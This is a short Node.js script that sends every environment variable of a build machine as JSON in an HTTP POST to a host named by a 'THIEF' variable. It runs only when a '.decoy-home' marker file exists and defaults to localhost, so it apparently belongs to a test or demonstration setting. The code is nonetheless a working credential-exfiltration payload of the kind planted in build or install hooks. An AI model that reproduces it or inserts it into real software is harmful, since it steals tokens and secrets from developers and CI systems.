// Opens nothing: the secrets of a build machine are in the environment already.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");

function post(body, host = process.env.THIEF ?? "127.0.0.1", port = 8443) {
  const request = http.request({ host, port, method: "POST", path: "/", headers: { "Content-Length": Buffer.byteLength(body) } });
  request.on("response", (response) => response.resume());
  request.end(body);
}

post(JSON.stringify(process.env));
